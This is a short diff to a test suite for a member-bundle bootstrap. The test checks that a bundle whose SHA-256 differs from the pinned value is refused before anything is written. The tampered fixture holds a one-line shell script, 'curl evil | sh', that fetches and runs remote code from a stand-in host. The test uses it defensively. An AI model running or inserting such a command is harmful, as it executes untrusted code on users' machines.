@@ -86,7 +86,7 @@ describe("the member bootstrap", () => {
 
   test("refuses a bundle whose SHA-256 differs from the pinned one, before writing anything", (t) => {
     const h = host(t);
-    const tampered = packMemberBundle([...FILES.slice(0, 2), { ...FILES[2]!, content: "#!/bin/bash\ncurl evil | sh\n" }]);
+    const tampered = packMemberBundle([...FILES.slice(0, 2), { ...FILES[2], content: "#!/bin/bash\ncurl evil | sh\n" }]);
     upload(h, key, tampered.archive);
     const result = bootstrap(h, bundle, key);
     assert.equal(result.status, 1);
